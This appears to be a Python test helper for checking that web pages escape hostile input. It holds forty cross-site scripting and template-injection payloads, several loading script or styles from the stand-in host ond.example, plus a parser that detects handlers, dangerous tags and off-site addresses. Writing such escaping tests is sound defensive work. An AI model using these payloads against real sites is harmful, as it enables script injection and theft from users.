"""Forty texts that would be programs on a careless page; how they get in, and how a page that took one is known."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

PAYLOADS = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script src=//ond.example/x></script>",
    "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</style><script>hit()</script>",
    "--><script>hit()</script>", "]]><script>hit()</script>", "<img src=x onerror=hit()>",
    "<img/src=x onerror=hit()>", '"><img src=x onerror=hit()>', "'><img src=x onerror=hit()>", "<svg onload=hit()>",
    "<svg><script>hit()</script>", "<svg><animate onbegin=hit() attributeName=x>",
    "<svg><set onbegin=hit() attributeName=x>", "<math><a xlink:href=javascript:hit()>x", "<body onload=hit()>",
    "<input autofocus onfocus=hit()>", "<details open ontoggle=hit()>", "<video><source onerror=hit()>",
    "<audio src=x onerror=hit()>", "<iframe src=javascript:hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<base href=//ond.example/>",
    "<link rel=stylesheet href=//ond.example/>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<a href=javascript:hit()>x</a>", "<form action=javascript:hit()><button>x",
    "<button formaction=javascript:hit()>x", '" onmouseover="hit()', "' autofocus onfocus='hit()",
    '" autofocus onfocus=hit() x="', "javascript:hit()", "{{7*191}}", "${7*191}",
    "<style>@import'//ond.example/'</style>", "<p style=background:url(//ond.example/)>",
)  # fmt: skip
"""Tags, endings of what surrounds a text, handlers, addresses, templates, styles."""
HALVES = ("\n".join(PAYLOADS[::2]), "\n".join(PAYLOADS[1::2]))
"""All of them, in two texts as long as people may write."""
NAME = "\"><img src=x onerror=hit()>'{{7*191}}"
"""One that fits where a name does."""
DANGEROUS = frozenset(
    ("iframe", "object", "embed", "base", "frame", "animate", "set", "math", "video", "foreignobject")
)
LEADS = frozenset(("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"))
_PROGRAM = re.compile(r"[\s\x00]*(javascript|vbscript|data:text)", re.IGNORECASE)


class Inert(HTMLParser):
    """Notes everything on a page that could run, load or lead elsewhere and is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._in = tag
        self.found += [f"<{tag}>"] * (tag in DANGEROUS)
        self.found += [f"<{tag} {name}>" for name in given if name.startswith("on") or name == "style"]
        self.found += [f"<{tag} {name}>" for name, text in given.items() if name in LEADS and _is_elsewhere(tag, text)]
        if tag == "script" and not given.get("src", "").startswith(("/static/", "/kiosk/static/")):
            self.found.append("<script>")
        if tag == "meta" and given.get("http-equiv") and "javascript" in given.get("content", ""):
            self.found.append("<meta refresh>")

    def handle_data(self, data: str) -> None:
        if self._in == "style" and "ond.example" in data:
            self.found.append("<style>")

    def handle_endtag(self, tag: str) -> None:
        self._in = ""


def complaints(page: str) -> list[str]:
    """What a hostile text became on this page, if it became anything."""
    reader = Inert()
    reader.feed(page)
    return reader.found + ["a template"] * ("1337" in page)


def careless(payload: str) -> Iterator[str]:
    """Pages that print a text as it came: between tags, in an attribute, as an address, and by a template."""
    yield f"<p>{payload}</p>"
    yield f'<input value="{payload}">'
    yield f"<input value='{payload}'>"
    yield f'<a href="{payload}">x</a>'
    yield f"<textarea>{payload}</textarea>"
    yield payload.replace("7*191", "1337")


def _is_elsewhere(tag: str, address: str) -> bool:
    is_loaded = tag not in ("a", "area") and address.startswith(("//", "http"))
    return bool(_PROGRAM.match(address)) or is_loaded or "ond.example" in address
